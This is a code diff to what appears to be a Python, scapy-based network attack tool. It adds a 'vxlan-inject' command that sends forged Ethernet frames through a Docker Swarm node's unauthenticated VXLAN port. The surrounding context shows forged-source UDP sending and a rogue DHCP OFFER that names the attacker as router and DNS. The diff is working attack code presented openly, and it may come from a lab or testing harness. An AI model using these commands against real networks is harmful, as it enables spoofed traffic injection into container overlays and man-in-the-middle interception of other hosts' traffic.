@@ -58,6 +58,12 @@ by their form. Payload arguments take Python escapes (``'GET / HTTP/1.0\\r\\n\\r
       [--count 5] [--payload x]
       Forged-source UDP datagrams; B is resolved as in handshake unless --dst-mac.
       -> {"sent": count}   or {"sent": 0, "resolved": false}
+  vxlan-inject --to NODE --vni N --src-mac M --src-ip A --dst-mac D --dst-ip B --dport P
+            [--port 4789] [--count 5] [--payload x]
+      A Swarm overlay's unauthenticated VXLAN: a UDP datagram (A -> B:P) in an Ethernet
+      frame (M -> D), in a VXLAN header of network N, sent to NODE's VXLAN port over an
+      ordinary UDP socket, through the attacker's own routes: no CAP_NET_RAW needed.
+      -> {"sent": count}
   dhcp-offer --src-mac M --src-ip A [--yiaddr Y] [--client-mac C] [--count 1]
       DHCP OFFER (server id, router and DNS A, mask /24, lease 3600 s), UDP 67->68,
       Ethernet broadcast, IP 255.255.255.255. Y defaults to A's /24 host .250.
@@ -688,6 +694,20 @@ def cmd_udp(a):
     frame = me.l3(a.dst_ip, dst_mac) / s.UDP(sport=sport, dport=a.dport) / s.Raw(load=a.payload)
     for _ in range(a.count):
         link.send(frame)
+    return {"sent": a.count}
+
+
+def cmd_vxlan_inject(a):
+    same_family(a.src_ip, a.dst_ip)
+    s = load_scapy()
+    inner = (s.Ether(src=a.src_mac, dst=a.dst_mac)
+             / s.IP(src=str(a.src_ip), dst=str(a.dst_ip))
+             / s.UDP(sport=40000, dport=a.dport) / s.Raw(load=a.payload))
+    # RFC 7348: flags (I), 24 reserved bits, the 24-bit VNI, 8 reserved bits.
+    header = struct.pack("!B3xI", 0x08, a.vni << 8)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(a.count):
+        sock.sendto(header + bytes(inner), (str(a.to), a.port))
     return {"sent": a.count}
 
 
@@ -1416,6 +1436,19 @@ def build_parser():
     u.add_argument("--count", type=count_arg, default=5)
     u.add_argument("--payload", type=payload_arg, default=b"x")
     u.set_defaults(func=cmd_udp)
+
+    v = sub.add_parser("vxlan-inject", parents=[common], help="a frame through a node's VXLAN port")
+    v.add_argument("--to", type=ip4_arg, required=True)
+    v.add_argument("--port", type=port_arg, default=4789)
+    v.add_argument("--vni", type=int, required=True)
+    v.add_argument("--src-mac", type=mac_arg, required=True)
+    v.add_argument("--src-ip", type=ip_arg, required=True)
+    v.add_argument("--dst-mac", type=mac_arg, required=True)
+    v.add_argument("--dst-ip", type=ip_arg, required=True)
+    v.add_argument("--dport", type=port_arg, required=True)
+    v.add_argument("--count", type=count_arg, default=5)
+    v.add_argument("--payload", type=payload_arg, default=b"x")
+    v.set_defaults(func=cmd_vxlan_inject)
 
     d = sub.add_parser("dhcp-offer", parents=[common], help="rogue DHCP OFFER (broadcast)")
     d.add_argument("--src-mac", type=mac_arg, required=True)
